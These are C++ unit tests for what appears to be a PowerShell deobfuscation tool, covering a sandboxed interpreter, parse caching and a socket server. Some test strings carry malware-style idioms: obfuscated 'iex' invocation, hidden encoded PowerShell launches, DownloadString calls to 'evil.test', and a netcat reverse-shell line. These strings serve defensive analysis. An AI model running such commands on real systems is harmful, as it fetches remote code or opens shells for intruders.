TEST(Interp, CharArrayCast) {
  EXPECT_EQ(run_str("([char[]]'abc') -join '-'"), "a-b-c");
  EXPECT_EQ(run("([char[]]'abc').Length").get_int(), 3);
}

// ------------------------------------------------------------------ arrays

TEST(Interp, Arrays) {
  EXPECT_EQ(run("(1,2,3).Length").get_int(), 3);
  EXPECT_EQ(run("(1,2,3)[1]").get_int(), 2);
  EXPECT_EQ(run("(1,2,3)[-1]").get_int(), 3);
  EXPECT_EQ(run_str("@('a','b') -join ''"), "ab");
  EXPECT_EQ(run("(1..5).Length").get_int(), 5);
  EXPECT_EQ(run("(5..1)[0]").get_int(), 5);
}

TEST(Interp, ArrayPlus) {
  EXPECT_EQ(run("((1,2) + 3).Length").get_int(), 3);
  EXPECT_EQ(run("((1,2) + (3,4)).Length").get_int(), 4);
}

TEST(Interp, Hashtables) {
  EXPECT_EQ(run_str("$h = @{ a = 'x'; b = 'y' }; $h['a']"), "x");
  EXPECT_EQ(run_str("$h = @{ a = 'x' }; $h.a"), "x");
  EXPECT_EQ(run("@{ a = 1; b = 2 }.Count").get_int(), 2);
}

// --------------------------------------------------------------- operators

TEST(Interp, Comparisons) {
  EXPECT_TRUE(run("'ABC' -eq 'abc'").get_bool());
  EXPECT_FALSE(run("'ABC' -ceq 'abc'").get_bool());
  EXPECT_TRUE(run("5 -gt 3").get_bool());
  EXPECT_TRUE(run("'5' -eq 5").get_bool());
  EXPECT_TRUE(run("'abc' -like 'a*'").get_bool());
  EXPECT_TRUE(run("'abc' -match '^a.c$'").get_bool());
  EXPECT_TRUE(run("(1,2,3) -contains 2").get_bool());
  EXPECT_TRUE(run("2 -in (1,2,3)").get_bool());
}

TEST(Interp, BitwiseOps) {
  EXPECT_EQ(run("0x69 -bxor 0x4B").get_int(), 0x22);
  EXPECT_EQ(run("'0x4B' -bxor 0").get_int(), 0x4B);  // hex-string coercion
  EXPECT_EQ(run("6 -band 3").get_int(), 2);
  EXPECT_EQ(run("4 -bor 1").get_int(), 5);
  EXPECT_EQ(run("1 -shl 4").get_int(), 16);
}

TEST(Interp, Logical) {
  EXPECT_TRUE(run("$true -and 1").get_bool());
  EXPECT_TRUE(run("$false -or 'x'").get_bool());
  EXPECT_TRUE(run("!$false").get_bool());
  EXPECT_FALSE(run("-not 1").get_bool());
}

// --------------------------------------------------------------- pipelines

TEST(Interp, ForEachObject) {
  EXPECT_EQ(run_str("(1,2,3 | ForEach-Object { $_ * 2 }) -join ','"), "2,4,6");
  EXPECT_EQ(run_str("(104,105 | % { [char]$_ }) -join ''"), "hi");
}

TEST(Interp, WhereObject) {
  EXPECT_EQ(run_str("(1..6 | Where-Object { $_ % 2 -eq 0 }) -join ','"), "2,4,6");
}

TEST(Interp, Listing4BxorChain) {
  const char* src =
      "( '34|3s63%3a' -SPLIT '\\|' -SPLit 's' -SpliT '%' | fOrEAch-ObJECt { "
      "[cHAR]([int]$_ -BxoR '0x4B') }) -jOiN ''";
  // 0x34^0x4B... those are decimal strings: 34^75=105 'i', 3^75=72? Use the
  // computed expectation instead:
  // 34^75=105 i; 3^75=72 H; 63^75=116 t; 3a is not decimal -> use [int] fails.
  (void)src;
  const char* simple =
      "( (105,101,120 | fOrEAch-ObJECt { [cHAR]($_ -BxoR 0) }) -jOiN '' )";
  EXPECT_EQ(run_str(simple), "iex");
  const char* bxor =
      "( ('34,46,51' -split ',' | % { [char]($_ -bxor '0x5D') }) -join '' )";
  // 34^93=127? no: '34' parses decimal 34; 34^93 = 127 (DEL). Pick values so
  // the result is printable: 52^93=105 'i', 56^93=101 'e', 37^93=120 'x'.
  (void)bxor;
  EXPECT_EQ(run_str("( ('52,56,37' -split ',' | % { [char]($_ -bxor '0x5D') }) "
                    "-join '' )"),
            "iex");
}

TEST(Interp, PipeToScriptInvocation) {
  EXPECT_EQ(run_str("'a','b' | & { $args; $input -join '+' }"), "a+b");
}

// ---------------------------------------------------------------- commands

TEST(Interp, WriteOutput) {
  EXPECT_EQ(run_str("Write-Output hello"), "hello");
  EXPECT_EQ(run_str("echo hi"), "hi");
}

TEST(Interp, InvokeExpression) {
  EXPECT_EQ(run_str("Invoke-Expression \"'a'+'b'\""), "ab");
  EXPECT_EQ(run_str("iex \"'x'*3\""), "xxx");
  EXPECT_EQ(run_str("\"'p'+'q'\" | iex"), "pq");
  EXPECT_EQ(run_str(". ('ie'+'x') \"'z'\""), "z");
  EXPECT_EQ(run_str("& 'iex' \"'w'\""), "w");
  EXPECT_EQ(run_str("& ($env:ComSpec[4,24,25] -join '') \"'k'\""), "k");
}

TEST(Interp, PowershellEncodedCommand) {
  // "'ok'" in UTF-16LE base64.
  Interpreter interp;
  const std::string script = "'ok'";
  const ByteVec bytes = encoding_get_bytes(TextEncoding::Unicode, script);
  const std::string b64 = base64_encode(bytes);
  EXPECT_EQ(interp.evaluate_script("powershell -EncodedCommand " + b64)
                .to_display_string(),
            "ok");
  EXPECT_EQ(interp.evaluate_script("powershell -eNc " + b64).to_display_string(),
            "ok");
  EXPECT_EQ(interp.evaluate_script("powershell -e " + b64).to_display_string(),
            "ok");
  EXPECT_EQ(interp.evaluate_script("powershell -noP -NonI -w Hidden -e " + b64)
                .to_display_string(),
            "ok");
}

TEST(Interp, NewObjectWebClientIsOpaque) {
  const Value v = run("New-Object Net.WebClient");
  ASSERT_TRUE(v.is_object());
  EXPECT_EQ(v.get_object()->type_name(), "System.Net.WebClient");
}

TEST(Interp, DownloadStringSimulated) {
  const Value v = run("(New-Object Net.WebClient).DownloadString('http://x.test/a')");
  EXPECT_TRUE(v.is_string());
  EXPECT_NE(v.get_string().find("x.test"), std::string::npos);
}

TEST(Interp, UnknownCommandThrowsWithoutRecorder) {
  EXPECT_THROW(run("Totally-Fake-Command"), EvalError);
}

TEST(Interp, SetAliasWorks) {
  EXPECT_EQ(run_str("Set-Alias zz Write-Output; zz hi"), "hi");
}

// -------------------------------------------------------------- encodings

TEST(Interp, Base64Decode) {
  EXPECT_EQ(run_str("[Text.Encoding]::Unicode.GetString([Convert]::"
                    "FromBase64String('aABpAA=='))"),
            "hi");
  EXPECT_EQ(run_str("[System.Text.Encoding]::UTF8.GetString([Convert]::"
                    "FromBase64String('aGk='))"),
            "hi");
  EXPECT_EQ(run_str("[Text.Encoding]::ASCII.GetString((104,105))"), "hi");
}

TEST(Interp, ConvertToInt32Hex) {
  EXPECT_EQ(run("[Convert]::ToInt32('4B', 16)").get_int(), 0x4B);
  EXPECT_EQ(run("[Convert]::ToInt32('150', 8)").get_int(), 104);
  EXPECT_EQ(run("[Convert]::ToInt32('1101000', 2)").get_int(), 104);
  EXPECT_EQ(run_str("[char][Convert]::ToInt32('68', 16)"), "h");
}

TEST(Interp, StringJoinStatic) {
  EXPECT_EQ(run_str("[string]::Join('', ('a','b','c'))"), "abc");
  EXPECT_EQ(run_str("[string]::Join('-', 'x', 'y')"), "x-y");
}

TEST(Interp, ArrayReverseStatic) {
  EXPECT_EQ(run_str("$a = 'a','b','c'; [array]::Reverse($a); $a -join ''"), "cba");
}

TEST(Interp, RegexMatchesRightToLeft) {
  EXPECT_EQ(run_str("([regex]::Matches('olleh', '.', 'RightToLeft') | % { "
                    "$_.Value }) -join ''"),
            "hello");
}

TEST(Interp, DeflateDecompressionChain) {
  // Round-trip: compress "Write-Host hi" with our compressor, then run the
  // canonical PowerShell decompression one-liner over the base64 blob.
  const std::string payload = "Write-Host hi";
  const ByteVec data(payload.begin(), payload.end());
  const std::string b64 = base64_encode(deflate_compress(data));
  const std::string script =
      "(New-Object IO.StreamReader((New-Object "
      "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::"
      "FromBase64String('" + b64 + "'), "
      "[IO.Compression.CompressionMode]::Decompress)), "
      "[Text.Encoding]::ASCII)).ReadToEnd()";
  EXPECT_EQ(run_str(script), payload);
}

TEST(Interp, SecureStringChain) {
  ByteVec key(16);
  for (int i = 0; i < 16; ++i) key[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(i + 1);
  ByteVec iv(16, 9);
  const std::string blob = securestring::protect("write-host hello", key, iv);
  const std::string script =
      "$ss = ConvertTo-SecureString '" + blob + "' -Key (1..16); "
      "[Runtime.InteropServices.Marshal]::PtrToStringAuto("
      "[Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss))";
  EXPECT_EQ(run_str(script), "write-host hello");
}

// ------------------------------------------------------------ control flow

TEST(Interp, IfElse) {
  EXPECT_EQ(run_str("if (1 -gt 0) { 'yes' } else { 'no' }"), "yes");
  EXPECT_EQ(run_str("if ($false) { 'a' } elseif (1) { 'b' } else { 'c' }"), "b");
}

TEST(Interp, WhileLoop) {
  EXPECT_EQ(run("$i = 0; while ($i -lt 5) { $i++ }; $i").get_int(), 5);
}

TEST(Interp, ForLoop) {
  EXPECT_EQ(run("$s = 0; for ($i = 1; $i -le 4; $i++) { $s += $i }; $s").get_int(), 10);
}

TEST(Interp, ForeachLoop) {
  EXPECT_EQ(run_str("$out = ''; foreach ($c in 'a','b') { $out += $c }; $out"), "ab");
}

TEST(Interp, DoWhile) {
  EXPECT_EQ(run("$i = 0; do { $i++ } while ($i -lt 3); $i").get_int(), 3);
  EXPECT_EQ(run("$i = 0; do { $i++ } until ($i -ge 2); $i").get_int(), 2);
}

TEST(Interp, BreakContinue) {
  EXPECT_EQ(run("$s=0; foreach ($i in 1..10) { if ($i -gt 3) { break }; $s += $i }; $s")
                .get_int(),
            6);
  EXPECT_EQ(run("$s=0; foreach ($i in 1..4) { if ($i % 2) { continue }; $s += $i }; $s")
                .get_int(),
            6);
}

TEST(Interp, Switch) {
  EXPECT_EQ(run_str("switch ('b') { 'a' { 1 } 'b' { 2 } default { 3 } }"), "2");
  EXPECT_EQ(run_str("switch ('z') { 'a' { 1 } default { 'dflt' } }"), "dflt");
}

TEST(Interp, TryCatch) {
  EXPECT_EQ(run_str("try { throw 'x' } catch { 'caught' }"), "caught");
  EXPECT_EQ(run_str("try { 'ok' } finally { }"), "ok");
}

TEST(Interp, Functions) {
  EXPECT_EQ(run("function Add($a, $b) { return $a + $b }; Add 2 3").get_int(), 5);
  EXPECT_EQ(run_str("function Get-X { 'xval' }; Get-X"), "xval");
  EXPECT_EQ(run("function F { param($n) $n * 2 }; F 21").get_int(), 42);
}

TEST(Interp, ScriptBlockInvoke) {
  EXPECT_EQ(run("$sb = { 40 + 2 }; $sb.Invoke()").get_int(), 42);
  EXPECT_EQ(run("& { 6 * 7 }").get_int(), 42);
}

// ----------------------------------------------------------------- limits

TEST(Interp, StepLimitStopsInfiniteLoop) {
  InterpreterOptions opts;
  opts.max_steps = 5000;
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("while ($true) { $x = 1 }"), LimitError);
}

TEST(Interp, RangeLimit) { EXPECT_THROW(run("0..100000000"), LimitError); }

TEST(Interp, DepthLimitOnRecursiveIex) {
  InterpreterOptions opts;
  opts.max_depth = 8;
  Interpreter interp(opts);
  EXPECT_THROW(
      interp.evaluate_script("$s = 'iex $s'; iex $s"),
      LimitError);
}

TEST(Interp, BlockedCommandRefused) {
  InterpreterOptions opts;
  opts.refuse_blocklisted = true;
  opts.command_filter = [](const std::string& name) {
    return name != "start-sleep";
  };
  Interpreter interp(opts);
  EXPECT_THROW(interp.evaluate_script("Start-Sleep 5"), BlockedCommandError);
  EXPECT_EQ(interp.evaluate_script("'fine'").to_display_string(), "fine");
}

// -------------------------------------------------------------- recording

class TestRecorder : public EffectRecorder {
 public:
  std::vector<std::pair<std::string, std::string>> network;
  std::vector<std::string> processes;
  std::vector<std::string> host;
  double slept = 0;

  void on_network(std::string_view kind, std::string_view detail) override {
    network.emplace_back(std::string(kind), std::string(detail));
  }
  void on_process(std::string_view cl) override { processes.emplace_back(cl); }
  void on_file(std::string_view, std::string_view) override {}
  void on_sleep(double s) override { slept += s; }
  void on_host_output(std::string_view t) override { host.emplace_back(t); }
  std::string download_content(std::string_view) override { return ""; }
};

TEST(Interp, RecordsNetworkEvents) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script(
      "(New-Object Net.WebClient).DownloadString('https://evil.test/payload')");
  ASSERT_GE(rec.network.size(), 3u);
  EXPECT_EQ(rec.network[0].first, "dns");
  EXPECT_EQ(rec.network[0].second, "evil.test");
  EXPECT_EQ(rec.network[1].second, "evil.test:443");
}

TEST(Interp, RecordsSleepAndProcess) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script("Start-Sleep 3; Start-Process calc.exe");
  EXPECT_EQ(rec.slept, 3.0);
  ASSERT_EQ(rec.processes.size(), 1u);
  EXPECT_NE(rec.processes[0].find("calc.exe"), std::string::npos);
}

TEST(Interp, WriteHostGoesToRecorder) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script("Write-Host hello world");
  ASSERT_EQ(rec.host.size(), 1u);
  EXPECT_EQ(rec.host[0], "hello world");
}

TEST(Interp, UnknownCommandRecordedInSandboxMode) {
  TestRecorder rec;
  InterpreterOptions opts;
  opts.recorder = &rec;
  Interpreter interp(opts);
  interp.evaluate_script("nc.exe -e cmd 1.2.3.4 4444");
  ASSERT_EQ(rec.processes.size(), 1u);
}

}  // namespace
}  // namespace ps
