// Cache-equivalence suite: deobfuscating the checked-in regression corpus
// with the parse cache enabled must yield byte-identical outputs and
// identical DeobfuscationReport stats as with the cache disabled — the
// caching layer is a pure performance optimization, so the semantics-
// preservation and idempotence invariants (DESIGN.md invariants 2/4) are
// unaffected by it.

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/deobfuscator.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"

namespace ideobf {
namespace {

namespace fs = std::filesystem;

std::string slurp(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << path;
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

fs::path data_dir() { return fs::path(IDEOBF_SOURCE_DIR) / "data" / "regression"; }

std::vector<int> sample_ids() {
  std::vector<int> ids;
  for (int i = 0;; ++i) {
    if (!fs::exists(data_dir() / ("sample_" + std::to_string(i) + ".obf.ps1"))) {
      break;
    }
    ids.push_back(i);
  }
  return ids;
}

void expect_reports_equal(const DeobfuscationReport& a,
                          const DeobfuscationReport& b, int id) {
  EXPECT_EQ(a.passes, b.passes) << "sample " << id;
  EXPECT_EQ(a.token.ticks_removed, b.token.ticks_removed) << "sample " << id;
  EXPECT_EQ(a.token.aliases_expanded, b.token.aliases_expanded) << "sample " << id;
  EXPECT_EQ(a.token.case_normalized, b.token.case_normalized) << "sample " << id;
  EXPECT_EQ(a.recovery.pieces_recovered, b.recovery.pieces_recovered)
      << "sample " << id;
  EXPECT_EQ(a.recovery.variables_traced, b.recovery.variables_traced)
      << "sample " << id;
  EXPECT_EQ(a.recovery.variables_substituted, b.recovery.variables_substituted)
      << "sample " << id;
  EXPECT_EQ(a.multilayer.layers_unwrapped, b.multilayer.layers_unwrapped)
      << "sample " << id;
  EXPECT_EQ(a.rename.renamed, b.rename.renamed) << "sample " << id;
  EXPECT_EQ(a.rename.variables_renamed, b.rename.variables_renamed)
      << "sample " << id;
  EXPECT_EQ(a.rename.functions_renamed, b.rename.functions_renamed)
      << "sample " << id;
  EXPECT_EQ(a.trace.size(), b.trace.size()) << "sample " << id;
}

TEST(CacheEquivalence, CorpusOutputsAndReportsMatch) {
  Options cached_opts;
  cached_opts.telemetry.collect_trace = true;
  ASSERT_TRUE(cached_opts.parse_cache);  // caching is the default
  const InvokeDeobfuscator cached(cached_opts);

  Options uncached_opts;
  uncached_opts.telemetry.collect_trace = true;
  uncached_opts.parse_cache = false;
  uncached_opts.recovery.memo = false;  // the full pre-optimization behavior
  const InvokeDeobfuscator uncached(uncached_opts);
  ASSERT_EQ(uncached.parse_cache(), nullptr);

  const auto ids = sample_ids();
  ASSERT_GE(ids.size(), 20u);
  for (int id : ids) {
    const std::string obf =
        slurp(data_dir() / ("sample_" + std::to_string(id) + ".obf.ps1"));
    DeobfuscationReport ra, rb;
    const std::string with_cache = cached.deobfuscate(obf, ra);
    const std::string without_cache = uncached.deobfuscate(obf, rb);
    EXPECT_EQ(with_cache, without_cache) << "sample " << id;
    expect_reports_equal(ra, rb, id);
  }
  // The shared cache must actually have been exercised across the corpus.
  // (Misses outnumber hits on a cold cache because every distinct piece
  // text the interpreter executes flows through the cache exactly once.)
  const auto stats = cached.parse_cache()->stats();
  EXPECT_GT(stats.hits, 0u);
}

TEST(CacheEquivalence, WarmCacheIsIdempotent) {
  // Invariant 4: a second (fully warm-cache) run equals the first.
  const InvokeDeobfuscator deobf;
  const auto ids = sample_ids();
  ASSERT_FALSE(ids.empty());
  for (int id : ids) {
    if (id % 5 != 0) continue;  // a spread of samples keeps runtime modest
    const std::string obf =
        slurp(data_dir() / ("sample_" + std::to_string(id) + ".obf.ps1"));
    const std::string once = deobf.deobfuscate(obf);
    const std::string twice = deobf.deobfuscate(once);
    EXPECT_EQ(once, twice) << "sample " << id;
  }
}

TEST(CacheEquivalence, CacheCutsParsesAtLeastInHalf) {
  // The headline property: the parse-once pipeline does at most half the
  // parses of the re-parse-everywhere seed behavior on real inputs.
  const auto ids = sample_ids();
  ASSERT_FALSE(ids.empty());
  std::vector<std::string> scripts;
  for (int id : ids) {
    if (id % 4 != 0) continue;
    scripts.push_back(
        slurp(data_dir() / ("sample_" + std::to_string(id) + ".obf.ps1")));
  }

  Options uncached_opts;
  uncached_opts.parse_cache = false;
  uncached_opts.recovery.memo = false;  // seed behavior: no cache, no memo
  const InvokeDeobfuscator uncached(uncached_opts);
  const auto before_uncached = ps::parse_call_count();
  for (const auto& s : scripts) (void)uncached.deobfuscate(s);
  const auto parses_uncached = ps::parse_call_count() - before_uncached;

  const InvokeDeobfuscator cached;
  const auto before_cached = ps::parse_call_count();
  for (const auto& s : scripts) (void)cached.deobfuscate(s);
  const auto parses_cached = ps::parse_call_count() - before_cached;

  EXPECT_LE(parses_cached * 2, parses_uncached)
      << "cached=" << parses_cached << " uncached=" << parses_uncached;
}

}  // namespace
}  // namespace ideobf
