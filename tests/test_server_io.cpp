// The epoll I/O core of `ideobf serve`: incremental NDJSON framing under
// adversarial byte-at-a-time writes, pipelined requests, the output-buffer
// high-water reap, the idle-timeout reap, and a connection storm of
// hundreds of concurrent clients through the real CLI binary. The framing
// and buffering primitives (event_loop.h) are also unit-tested here without
// sockets.

#include <signal.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstring>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "gtest/gtest.h"
#include "ideobf/client.h"
#include "server/event_loop.h"
#include "server/protocol.h"
#include "server/server.h"

namespace {

using ideobf::Request;
using ideobf::ServeClient;
using ideobf::ServeReply;
using ideobf::server::LineAssembler;
using ideobf::server::OutputBuffer;
using ideobf::server::Server;
using ideobf::server::ServerConfig;

constexpr const char* kTicked = "wr`ite-ho`st 'hello'";

std::string test_socket(const std::string& name) {
  return "/tmp/ideobf-io-" + name + "-" + std::to_string(::getpid()) +
         ".sock";
}

ServerConfig base_config(const std::string& socket_path) {
  ServerConfig cfg;
  cfg.unix_socket_path = socket_path;
  cfg.threads = 2;
  return cfg;
}

Request deobf_request(const std::string& source, const std::string& id) {
  Request request;
  request.source = source;
  request.id = id;
  return request;
}

/// A raw connection the server cannot distinguish from a hostile client:
/// sends whatever bytes we choose, reads only when told to.
struct RawConn {
  int fd = -1;

  explicit RawConn(const std::string& socket_path) {
    fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    EXPECT_GE(fd, 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    EXPECT_LT(socket_path.size(), sizeof(addr.sun_path));
    std::memcpy(addr.sun_path, socket_path.c_str(), socket_path.size() + 1);
    EXPECT_EQ(0, ::connect(fd, reinterpret_cast<sockaddr*>(&addr),
                           sizeof(addr)))
        << std::strerror(errno);
  }
  ~RawConn() {
    if (fd >= 0) ::close(fd);
  }

  void send_bytes(std::string_view bytes) {
    ASSERT_EQ(static_cast<ssize_t>(bytes.size()),
              ::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL));
  }

  std::string recv_line() {
    std::string buf;
    char c = 0;
    while (::recv(fd, &c, 1, 0) == 1) {
      if (c == '\n') return buf;
      buf.push_back(c);
    }
    return buf;
  }

  /// True when the server closed this connection (EOF or reset) within
  /// `timeout_seconds` — the observable shape of every server-side reap.
  /// Drains (and discards) any data the kernel already buffered for us:
  /// EOF only surfaces after buffered bytes are consumed.
  bool closed_by_server(double timeout_seconds) {
    const auto give_up = std::chrono::steady_clock::now() +
                         std::chrono::duration<double>(timeout_seconds);
    char chunk[65536];
    while (std::chrono::steady_clock::now() < give_up) {
      ssize_t n = ::recv(fd, chunk, sizeof(chunk), MSG_DONTWAIT);
      if (n == 0) return true;
      if (n > 0) continue;  // discard; keep draining toward the EOF
      if (errno != EAGAIN && errno != EWOULDBLOCK && errno != EINTR) {
        return true;  // ECONNRESET counts: the server cut the line
      }
      ::usleep(10 * 1000);
    }
    return false;
  }
};

}  // namespace

// ---------------------------------------------------------------------------
// Framing / buffering primitives (no sockets)
// ---------------------------------------------------------------------------

TEST(ServerIoUnits, LineAssemblerReassemblesByteAtATime) {
  LineAssembler in(1024);
  const std::string wire = "{\"op\":\"ping\"}\r\nsecond line\n";
  std::vector<std::string> lines;
  std::string line;
  for (char c : wire) {
    in.append(&c, 1);
    while (in.next(line)) lines.push_back(line);
  }
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0], "{\"op\":\"ping\"}");  // '\r' stripped
  EXPECT_EQ(lines[1], "second line");
  EXPECT_EQ(in.buffered(), 0u);
  EXPECT_FALSE(in.partial_line_pending());
}

TEST(ServerIoUnits, LineAssemblerHandlesBatchesAndPartials) {
  LineAssembler in(1024);
  in.append("a\nb\nhalf", 8);
  std::string line;
  ASSERT_TRUE(in.next(line));
  EXPECT_EQ(line, "a");
  ASSERT_TRUE(in.next(line));
  EXPECT_EQ(line, "b");
  EXPECT_FALSE(in.next(line));
  EXPECT_TRUE(in.partial_line_pending());
  in.append("+rest\n", 6);
  ASSERT_TRUE(in.next(line));
  EXPECT_EQ(line, "half+rest");
}

TEST(ServerIoUnits, LineAssemblerLatchesOverflow) {
  LineAssembler in(8);
  in.append("0123456789", 10);  // no newline, past the cap
  EXPECT_TRUE(in.overflowed());
  std::string line;
  EXPECT_FALSE(in.next(line));
  in.append("\n", 1);  // too late: the connection is doomed, stay latched
  EXPECT_TRUE(in.overflowed());
  EXPECT_FALSE(in.next(line));
}

TEST(ServerIoUnits, LineAssemblerCompactsConsumedPrefix) {
  LineAssembler in(1u << 20);
  std::string line;
  // Enough consumed lines to trip the compaction path several times; the
  // assembler must stay correct across the internal erases.
  for (int round = 0; round < 2000; ++round) {
    const std::string payload =
        "line-" + std::to_string(round) + std::string(16, 'x');
    in.append(payload.data(), payload.size());
    in.append("\n", 1);
    ASSERT_TRUE(in.next(line));
    EXPECT_EQ(line, payload);
  }
  EXPECT_EQ(in.buffered(), 0u);
}

TEST(ServerIoUnits, OutputBufferFlushesAcrossFullSocketBuffers) {
  int sv[2];
  ASSERT_EQ(0, ::socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, sv));
  OutputBuffer out;
  const std::string payload(1u << 20, 'z');
  out.append(payload);
  out.append("\n");

  // First flush jams against the kernel buffer: partial, bytes remain.
  ASSERT_EQ(out.flush(sv[0]), OutputBuffer::FlushResult::Partial);
  EXPECT_GT(out.bytes(), 0u);

  // Drain the reader side while re-flushing until everything went through.
  std::string seen;
  char chunk[65536];
  for (int i = 0; i < 10000 && seen.size() < payload.size() + 1; ++i) {
    ssize_t n = ::recv(sv[1], chunk, sizeof(chunk), MSG_DONTWAIT);
    if (n > 0) seen.append(chunk, static_cast<std::size_t>(n));
    if (!out.empty()) out.flush(sv[0]);
  }
  EXPECT_EQ(out.flush(sv[0]), OutputBuffer::FlushResult::Drained);
  EXPECT_EQ(seen.size(), payload.size() + 1);
  ::close(sv[0]);
  ::close(sv[1]);
}

TEST(ServerIoUnits, OutputBufferReportsErrorOnDeadPeer) {
  int sv[2];
  ASSERT_EQ(0, ::socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, sv));
  ::close(sv[1]);
  OutputBuffer out;
  out.append("nobody is listening\n");
  EXPECT_EQ(out.flush(sv[0]), OutputBuffer::FlushResult::Error);
  ::close(sv[0]);
}

// ---------------------------------------------------------------------------
// The live server under adversarial I/O shapes
// ---------------------------------------------------------------------------

TEST(ServerIoTest, ByteAtATimeRequestStillParses) {
  const std::string sock = test_socket("drip");
  Server server(base_config(sock));
  server.start();

  RawConn conn(sock);
  const std::string line =
      ideobf::server::render_request_line(deobf_request(kTicked, "drip-1")) +
      "\n";
  for (char c : line) conn.send_bytes(std::string_view(&c, 1));

  ServeReply reply;
  std::string error;
  ASSERT_TRUE(ideobf::server::parse_reply_line(conn.recv_line(), reply,
                                               error))
      << error;
  EXPECT_EQ(reply.status, "ok");
  EXPECT_EQ(reply.response.id, "drip-1");
  server.stop();
}

TEST(ServerIoTest, PipelinedAndSplitWritesAllAnswered) {
  const std::string sock = test_socket("pipeline");
  Server server(base_config(sock));
  server.start();

  RawConn conn(sock);
  // Ten requests in one write, the last one cut mid-line and finished in a
  // second write after a pause — the loop must hold the partial tail.
  std::string burst;
  for (int i = 0; i < 10; ++i) {
    burst += ideobf::server::render_request_line(
                 deobf_request(kTicked, "p-" + std::to_string(i))) +
             "\n";
  }
  const std::size_t cut = burst.size() - 7;
  conn.send_bytes(std::string_view(burst).substr(0, cut));
  std::this_thread::sleep_for(std::chrono::milliseconds(50));
  conn.send_bytes(std::string_view(burst).substr(cut));

  // Two worker threads race the ten requests, so replies may arrive out
  // of order — the protocol matches them by id, not position.
  std::set<std::string> ids;
  for (int i = 0; i < 10; ++i) {
    ServeReply reply;
    std::string error;
    ASSERT_TRUE(ideobf::server::parse_reply_line(conn.recv_line(), reply,
                                                 error))
        << error;
    EXPECT_EQ(reply.status, "ok");
    ids.insert(reply.response.id);
  }
  for (int i = 0; i < 10; ++i) {
    EXPECT_TRUE(ids.count("p-" + std::to_string(i)) == 1)
        << "missing reply p-" << i;
  }
  server.stop();
}

TEST(ServerIoTest, IdleTimeoutReapsSlowLoris) {
  const std::string sock = test_socket("loris");
  ServerConfig cfg = base_config(sock);
  cfg.idle_timeout_seconds = 0.3;
  Server server(std::move(cfg));
  server.start();

  // A classic slow loris: opens the connection, dribbles half a request,
  // never finishes the line. Incomplete bytes must not count as activity.
  RawConn loris(sock);
  loris.send_bytes("{\"op\":\"deobfusc");
  EXPECT_TRUE(loris.closed_by_server(5.0));
  EXPECT_GE(server.stats().idle_reaped_total, 1u);

  // A fresh client is still served normally after the reap.
  ServeClient client = ServeClient::connect_unix(sock);
  EXPECT_EQ(client.call(deobf_request(kTicked, "after")).status, "ok");
  server.stop();
}

TEST(ServerIoTest, IdleTimeoutSparesActiveClients) {
  const std::string sock = test_socket("idle-active");
  ServerConfig cfg = base_config(sock);
  cfg.idle_timeout_seconds = 0.4;
  Server server(std::move(cfg));
  server.start();

  // Complete requests refresh the idle clock: a client pinging at half the
  // timeout stays connected well past several timeout windows.
  ServeClient client = ServeClient::connect_unix(sock);
  for (int i = 0; i < 8; ++i) {
    EXPECT_TRUE(client.ping());
    std::this_thread::sleep_for(std::chrono::milliseconds(200));
  }
  EXPECT_EQ(server.stats().idle_reaped_total, 0u);
  server.stop();
}

TEST(ServerIoTest, OutbufHighWaterReapsUnreadConsumer) {
  const std::string sock = test_socket("highwater");
  ServerConfig cfg = base_config(sock);
  // Tiny accumulation cap and a long stall budget, so the reap observed
  // here is unambiguously the high-water mark, not the stall timer.
  cfg.outbuf_high_water_bytes = 64u << 10;
  cfg.send_timeout_seconds = 30.0;
  Server server(std::move(cfg));
  server.start();

  // Each response echoes ~512KiB of source back; the client never reads.
  // The kernel socket buffer absorbs a couple hundred KiB, but the first
  // response still leaves the output buffer far over the cap, so the next
  // append finds it over the mark and dooms the connection.
  const std::string big = "'" + std::string(512u << 10, 'a') + "'";
  RawConn glutton(sock);
  {
    std::string lines;
    for (int i = 0; i < 4; ++i) {
      lines += ideobf::server::render_request_line(
                   deobf_request(big, "g-" + std::to_string(i))) +
               "\n";
    }
    glutton.send_bytes(lines);
  }
  // Do not read anything until the server has decided: reading would drain
  // the kernel buffer and let the outbuf empty under the cap.
  const auto give_up =
      std::chrono::steady_clock::now() + std::chrono::seconds(60);
  while (server.stats().outbuf_reaped_total == 0 &&
         std::chrono::steady_clock::now() < give_up) {
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  EXPECT_GE(server.stats().outbuf_reaped_total, 1u);
  EXPECT_TRUE(glutton.closed_by_server(10.0));

  // No worker or the event loop is wedged: an innocent client gets served
  // while the glutton's buffered output sits unread.
  ServeClient client = ServeClient::connect_unix(sock);
  EXPECT_EQ(client.call(deobf_request(kTicked, "innocent")).status, "ok");
  server.stop();
}

// ---------------------------------------------------------------------------
// Connection storm through the real binary
// ---------------------------------------------------------------------------

#ifdef IDEOBF_CLI_PATH

namespace {

/// Spawns `ideobf serve` (single process) and tears it down on destruction.
struct ServeProcess {
  pid_t pid = -1;
  std::string socket_path;

  ServeProcess() {
    socket_path = test_socket("storm-cli");
    std::vector<std::string> args = {
        IDEOBF_CLI_PATH, "serve",     "--socket", socket_path,
        "--threads",     "2",         "--max-queue", "256",
        "--idle-timeout-seconds", "30",
